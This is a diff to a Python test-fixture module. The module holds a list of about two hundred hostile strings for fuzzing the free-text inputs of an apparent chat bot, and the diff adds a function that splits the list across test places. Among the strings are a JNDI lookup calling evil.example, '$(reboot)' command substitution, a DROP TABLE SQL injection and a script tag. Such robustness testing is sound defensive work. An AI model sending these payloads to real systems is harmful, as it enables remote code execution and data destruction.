@@ -1,4 +1,10 @@
-"""Two hundred strings that people write to see what breaks, one list for every place where free text comes in."""
+"""Two hundred strings that people write to see what breaks, one list for every place where free text comes in.
+
+Through the fake platforms each place gets a share of them, another one each; with HOSTILE=all in the environment every
+place gets every string, which takes minutes.
+"""
+
+import os
 
 _MARKUP = (
     "<b>bold</b>", "<a href='tg://user?id=1'>x</a>", "<script>alert(1)</script>", "</pre><b>", "<b", "<!--", "-->",
@@ -29,6 +35,8 @@ _LETTERS = (
     "ＢＴＣ", "１００", "½", "²", "٣", "Ⅷ", "币安人生", "𝕭𝖎𝖙", "עברית", "العربية", "btс",
 )  # fmt: skip
 
+_SHARES = 20
+
 _CODE = (
     "{0}", "{}", "{x!r}", "{0.__class__}", "{ $x }", "{ $reason }", "{ incident }", "{ -term }", '{ "x" }', "%s", "%n",
     "%(x)s", "%d%d%d", "${jndi:ldap://evil.example/a}", "${x}", "$(reboot)", "`reboot`", "; DROP TABLE person; --",
@@ -42,3 +50,8 @@ _SIZES = ("x" * 63, "x" * 64, "x" * 65, "한" * 21, "한" * 22, "é" * 32, "x" *
 
 HOSTILE: tuple[str, ...] = (*_MARKUP, *_MENTIONS, *_UNSEEN, *_LETTERS, *_CODE, *_SIZES)
 """Each once. Some are empty, some cannot be encoded, some are longer than a message."""
+
+
+def share(number: int) -> tuple[str, ...]:
+    """Those for the place of this number: a twentieth, so that twenty places in a row get all of them."""
+    return HOSTILE if os.environ.get("HOSTILE") == "all" else HOSTILE[number % _SHARES :: _SHARES]
